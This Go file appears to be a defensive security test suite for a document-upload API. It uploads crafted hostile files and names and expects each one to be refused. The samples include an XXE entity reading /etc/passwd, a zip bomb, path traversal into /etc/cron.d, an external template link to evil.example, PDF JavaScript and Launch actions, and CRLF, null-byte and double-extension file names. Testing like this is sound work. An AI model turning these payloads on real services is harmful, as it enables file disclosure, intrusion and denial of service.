package attack

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"mime/multipart"
	"net/http"
	"strings"

	"zhengxiao/api/gen"
	"zhengxiao/internal/domain"
	"zhengxiao/models"
)

func packed(entries ...string) []byte {
	out := new(bytes.Buffer)
	w := zip.NewWriter(out)
	for i := 0; i+1 < len(entries); i += 2 {
		if f, err := w.Create(entries[i]); err == nil {
			_, _ = f.Write([]byte(entries[i+1]))
		}
	}
	_ = w.Close()
	return out.Bytes()
}

func docx(more ...string) []byte {
	return packed(append([]string{"[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>"}, more...)...)
}

// hostileFiles are uploaded as somebody who may upload: none of them may become current.
func (a *attacker) hostileFiles(ctx context.Context) error {
	external := `<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/></Relationships>`
	for name, body := range map[string][]byte{
		"宏.docx":  docx("word/vbaProject.bin", "x"),
		"炸弹.docx": docx("word/media/0", strings.Repeat("\x00", 1<<24)),
		"实体.docx": docx("word/a.xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`),
		"路径.docx": docx("../../../etc/cron.d/x", "x"),
		"模板.docx": docx("word/_rels/settings.xml.rels", external),
		"深.docx":  docx("word/a.xml", strings.Repeat("<a>", 5000)),
		"很多.docx": docx(strings.Split(strings.TrimSuffix(strings.Repeat("word/m\x00x\x00", 2100), "\x00"), "\x00")...),
		"表格.docx": packed("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<workbook/>"),
		"脚本.pdf":  []byte("%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert)>>endobj\n%%EOF"),
		"转义.pdf":  []byte("%PDF-1.7\n1 0 obj<</S/J#61vaScript>>endobj\n%%EOF"),
		"启动.pdf":  []byte("%PDF-1.7\n1 0 obj<</S/Launch>>endobj\n%%EOF"),
		"网页.pdf":  []byte("<html><script>alert(1)</script>"),
		"前置.pdf":  []byte("<script>alert(1)</script>%PDF-1.7\n%%EOF"),
		"旧.doc":   []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("x", 600) + "_\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00E\x00C\x00T\x00"),
	} {
		if err := a.handIn(ctx, name, body); err != nil {
			return err
		}
	}
	return a.hostileNames(ctx)
}

// handIn asks for a grant, sends the bytes and has them judged.
func (a *attacker) handIn(ctx context.Context, name string, body []byte) error {
	token := a.cast.tokens[domain.RoleSchoolAdmin]
	got, err := a.grant(ctx, token, name, body)
	if err != nil {
		return err
	}
	if got.status != http.StatusCreated {
		return fmt.Errorf("grant for %s: %d %.300s", name, got.status, got.body)
	}
	var g gen.UploadGrant
	if err := json.Unmarshal([]byte(got.body), &g); err != nil {
		return fmt.Errorf("grant for %s: %w", name, err)
	}
	if status, err := post(ctx, g, name, body); err != nil || status/100 != 2 {
		return fmt.Errorf("upload of %s: %d %w", name, status, err)
	}
	complete := request{method: http.MethodPost, path: fmt.Sprintf("/api/v1/files/%s/versions/%d/complete", g.FileId, g.N), token: token}
	got, err = a.send(ctx, complete)
	a.refused(name, got, err)
	got, err = a.send(ctx, complete)
	a.refused(name+" again", got, err)
	var v models.FileVersion
	if err := a.Store.DB(ctx).Where("file_id = ? AND n = ?", g.FileId, g.N).Take(&v).Error; err != nil {
		return err
	}
	a.note(name+" does not become current", v.State == models.FileRejected, string(v.State))
	got, err = a.send(ctx, request{method: http.MethodGet, path: a.downloadPath(v), token: token})
	a.refused(name+" is not served", got, err)
	return nil
}

func (a *attacker) grant(ctx context.Context, token, name string, body []byte) (answer, error) {
	sum := sha256.Sum256(body)
	return a.send(ctx, request{
		method: http.MethodPost, path: "/api/v1/cases/" + a.cast.victim.ID + "/files", token: token,
		body: map[string]any{"slot_kind": "dossier", "slot_key": "5", "name": name, "size": len(body), "sha256": hex.EncodeToString(sum[:])},
	})
}

func post(ctx context.Context, g gen.UploadGrant, name string, body []byte) (int, error) {
	out := new(bytes.Buffer)
	form := multipart.NewWriter(out)
	for k, v := range g.Fields {
		if err := form.WriteField(k, v); err != nil {
			return 0, err
		}
	}
	part, err := form.CreateFormFile("file", name)
	if err == nil {
		_, err = part.Write(body)
	}
	if err == nil {
		err = form.Close()
	}
	if err != nil {
		return 0, err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, g.Url, out)
	if err != nil {
		return 0, fmt.Errorf("build request: %w", err)
	}
	req.Header.Set("Content-Type", form.FormDataContentType())
	resp, err := hostile.Do(req)
	if err != nil {
		return 0, err
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, resp.Body.Close()
}

// hostileNames are refused before anything is uploaded.
func (a *attacker) hostileNames(ctx context.Context) error {
	token, body := a.cast.tokens[domain.RoleSchoolAdmin], []byte("%PDF-1.7\n%%EOF")
	for _, name := range []string{
		"../../etc/passwd.pdf", `..\x.pdf`, "a/b.pdf", "a\r\nSet-Cookie: x.pdf", "a\x00.pdf", "exe.\u202efdp.pdf", "a\u200b.pdf", "证明.pdf.exe",
		"证明.docm", "证明.svg", "证明.html", "证明.js",
		"证明.pdf ", ".pdf", "", "证明", "证明.php", strings.Repeat("长", 300) + ".pdf", "证明.PDF.bat", "con.scr",
	} {
		got, err := a.grant(ctx, token, name, body)
		a.refused(fmt.Sprintf("name %.30q", name), got, err)
	}
	for name, wish := range map[string]map[string]any{
		"huge": {"size": 1 << 50}, "negative": {"size": -1}, "empty": {"size": 0}, "no digest": {"sha256": strings.Repeat("z", 64)},
		"slot of another": {"slot_kind": "practice", "slot_key": missing},
		"slot outside":    {"slot_key": "../../x"}, "no slot": {"slot_key": "99"},
	} {
		b := map[string]any{"slot_kind": "dossier", "slot_key": "5", "name": "证明.pdf", "size": 10, "sha256": strings.Repeat("0", 64)}
		maps.Copy(b, wish)
		got, err := a.send(ctx, request{method: http.MethodPost, path: "/api/v1/cases/" + a.cast.victim.ID + "/files", token: token, body: b})
		a.refused("wish: "+name, got, err)
	}
	return nil
}
